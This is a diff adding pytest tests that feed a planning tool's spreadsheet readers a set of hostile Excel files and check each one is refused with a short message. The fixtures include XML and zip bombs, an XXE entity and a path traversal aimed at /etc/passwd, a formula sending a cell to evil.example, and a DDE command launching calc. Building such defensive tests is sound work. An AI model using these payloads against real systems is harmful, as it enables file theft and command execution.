@@ -6,14 +6,20 @@ import gzip
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 import zipfile
+from contextlib import suppress
 from itertools import pairwise, product
 from pathlib import Path
+from random import Random
 
 import pytest
 
+from nameplate.planning.bad_file import BadFile
+from nameplate.planning.pasted_participants import participants_of
+from nameplate.planning.sheet import as_excel
 from tests.planning.test_bad_files import delegations_error, programme_error
 
 
@@ -270,3 +276,122 @@ def test_no_line_of_a_concept_note_takes_long(tmp_path: Path) -> None:
     told = read_notes(tmp_path)
     assert len(told) == len(BEFORE) * len(FRAGMENTS)
     assert [(name, message) for name, message, seconds in told if seconds > 5 or not message.startswith("read: ")] == []
+
+
+def sheet(cells: str = "", parts: dict[str, str] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """An Excel file with these rows in its sheet, and with these parts changed or added."""
+    made = {name: content.decode() for name, content in PLAIN_SHEET.items()}
+    made["xl/worksheets/sheet1.xml"] = re.sub(
+        "<sheetData.*</sheetData>|<sheetData ?/>",
+        lambda _: f"<sheetData>{cells}</sheetData>",
+        made["xl/worksheets/sheet1.xml"],
+        flags=re.DOTALL,
+    )
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", method) as archive:
+        for name, text in (made | (parts or {})).items():
+            archive.writestr(name, text)
+    return file.getvalue()
+
+
+def parts_of(content: bytes) -> dict[str, bytes]:
+    """The parts of an Office file."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+PLAIN_SHEET = parts_of(as_excel([["begin"]], "Sheet"))
+STRINGS = "xl/sharedStrings.xml"
+CELL = '<c t="inlineStr"><is><t>x</t></is></c>'
+LAUGHING = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+HOSTILE_SHEETS: dict[str, bytes] = {
+    "a bomb of spaces": sheet(" " * 30_000_000),
+    "a bomb of rows": sheet("<row/>" * 3_000_000),
+    "a bomb of columns": sheet("<row>" + CELL * 200_000 + "</row>"),
+    "a bomb of strings": sheet(parts={STRINGS: "<sst>" + "<si><t>x</t></si>" * 2_000_000 + "</sst>"}),
+    "a bomb of styles": sheet(parts={"xl/styles.xml": "<styleSheet>" + "<xf/>" * 4_000_000 + "</styleSheet>"}),
+    "deep elements": sheet("<row>" * 5_000),
+    "a cell at the end of the sheet": sheet(
+        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    ),
+    "a row without end": sheet('<row r="99999999999999999999">' + CELL + "</row>"),
+    "a cell without a place": sheet('<row r="x"><c r="??"><v>1</v></c></row>'),
+    "a string that is not there": sheet('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>'),
+    "a date without end": sheet('<row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c></row>'),
+    "a number without end": sheet('<row r="1"><c r="A1"><v>' + "9" * 100_000 + "</v></c></row>"),
+    "laughs": sheet(parts={STRINGS: LAUGHING + "<sst><si><t>&b;</t></si></sst>"}),
+    "a foreign entity": sheet(parts={STRINGS: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst/>'}),
+    "other XML": sheet(parts={"xl/workbook.xml": "<a/>"}),
+    "no XML": sheet(parts={"xl/workbook.xml": "PK"}),
+    "a relation to nowhere": sheet(parts={"xl/_rels/workbook.xml.rels": "<Relationships/>"}),
+    "a relation to the outside": sheet(
+        parts={
+            "xl/_rels/workbook.xml.rels": PLAIN_SHEET["xl/_rels/workbook.xml.rels"]
+            .decode()
+            .replace("worksheets/sheet1.xml", "../../../etc/passwd")
+        }
+    ),
+    "hundreds of parts": sheet(parts={f"xl/{number}": "" for number in range(600)}),
+    "macros": sheet(parts={"xl/vbaProject.bin": "x"}),
+    "bzip2": sheet(" " * 1_000_000, method=zipfile.ZIP_BZIP2),
+    "a formula": sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://evil.example/"&amp;A2)</f></c></row>'),
+    "a command": sheet('<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>begin</v></c></row>'),
+    "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000),
+    "no archive": b"x" * 3_000,
+    "half an archive": sheet()[:900],
+    "nothing": b"",
+    "a Word file": zipped(zipfile.ZIP_DEFLATED, b"", 1),
+    "random bytes": b"PK\x03\x04" + os.urandom(3_000),
+}
+READ_SHEETS = """
+import json, resource, sys, time, warnings
+from pathlib import Path
+from nameplate.planning.bad_file import BadFile
+from nameplate.planning.delegations_file import read_delegations_text
+from nameplate.planning.pasted_participants import participants_of
+from nameplate.planning.programme_table import read_programme_table
+resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
+warnings.simplefilter("ignore")
+readers = (
+    lambda content, name: read_programme_table(content, name, {}),
+    lambda content, name: read_delegations_text(participants_of(content, name), name, {}),
+)
+for file in sorted(Path(sys.argv[1]).iterdir()):
+    for read in readers:
+        began = time.process_time()
+        try:
+            said = "read: " + repr(read(file.read_bytes(), file.name))[:80]
+        except BadFile as error:
+            said = str(error)
+        print(json.dumps([file.name, said, time.process_time() - began]))
+"""
+"""Runs in another process with 512 MB of memory. An exception other than `BadFile` ends it."""
+
+
+def test_each_hostile_sheet_is_refused_with_a_short_sentence(tmp_path: Path) -> None:
+    for name, content in HOSTILE_SHEETS.items():
+        (tmp_path / f"{name}.xlsx").write_bytes(content)
+    for name, sent in HOSTILE.items():
+        (tmp_path / f"{name}.csv").write_bytes(sent.encode() if isinstance(sent, str) else sent)
+    program = [sys.executable, "-c", READ_SHEETS, str(tmp_path)]
+    ran = subprocess.run(program, capture_output=True, text=True, timeout=300)
+    assert ran.returncode == 0, ran.stderr[-3000:]
+    told = [json.loads(line) for line in ran.stdout.splitlines()]
+    assert len(told) == 2 * (len(HOSTILE_SHEETS) + len(HOSTILE))
+    for name, message, seconds in told:
+        assert seconds < 10, name
+        assert not message.startswith("read: ") or name == "separators of lines.csv", (name, message)
+        assert len(message) < 600 and len(message.splitlines()) == 1 and message.isprintable(), (name, message)
+        assert "root:" not in message
+
+
+@pytest.mark.parametrize("place", range(3))
+def test_a_damaged_sheet_is_read_or_refused(place: int) -> None:
+    content = as_excel([["code", "category", "name"], ["x-1", "ngo", "An organization"]], "Sheet")
+    random = Random(place)
+    for _ in range(40):
+        damaged = bytearray(content)
+        for _ in range(random.randint(1, 6)):
+            damaged[random.randrange(len(damaged))] = random.randrange(256)
+        with suppress(BadFile):
+            participants_of(bytes(damaged), "p.xlsx")
